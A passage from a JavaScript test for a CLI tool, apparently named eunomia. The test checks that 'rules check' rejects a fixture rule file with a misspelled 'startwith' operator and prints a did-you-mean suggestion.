  const bad = spawnSync(process.execPath, [bin, 'rules', 'check', join(repoRoot, 'test/fixtures/bad-rule.yaml')], { encoding: 'utf8' });
  assert.equal(bad.status, 1);
  assert.equal(bad.stderr.trim(), `eunomia: ${join(repoRoot, 'test/fixtures/bad-rule.yaml')}:3:19: rule "x": unknown operator "startwith" after "comm" — did you mean "startswith"?`);
});
